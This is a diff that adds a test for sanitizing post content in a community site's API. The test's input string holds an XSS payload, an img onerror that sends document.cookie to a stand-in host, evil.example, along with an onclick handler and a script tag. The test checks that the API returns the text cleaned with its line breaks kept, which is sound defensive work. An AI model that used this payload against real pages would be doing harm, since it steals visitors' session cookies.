@@ -131,6 +131,16 @@ describe('POST /posts', () => {
       expect(await api.runJobs()).toMatchObject({ failed: 0 });
     });
 
+    it('a post’s text cannot run in a reader’s page: the API gives it out cleaned, its lines kept', async () => {
+      const m = await w.member();
+      const content = '<img src=x onerror="fetch(\'//evil.example/?\'+document.cookie)">Goede deal\nTweede regel\n\n<a href="https://klikshop.be/x" onclick="steal()">hier</a> & <script>alert(1)</script>';
+      const created = await post(m.token, reportPayload(w, { content }));
+      expect(created.status).toBe(201);
+      const detail = await api.call<{ data: { content: string } }>('GET', `/posts/${created.body.data.id}`, { token: m.token });
+      expect(detail.status).toBe(200);
+      expect(detail.body.data.content).toBe('<p>Goede deal<br>Tweede regel</p><p><a href="https://klikshop.be/x" rel="nofollow ugc noopener">hier</a> &amp; </p>');
+    });
+
     it('a question needs no category and pays its own bonus; the url is in the request language', async () => {
       const m = await w.member();
       const created = await post(m.token, reportPayload(w, { type_id: POST_TYPES.question, categories: [] }), { locale: 'fr' });
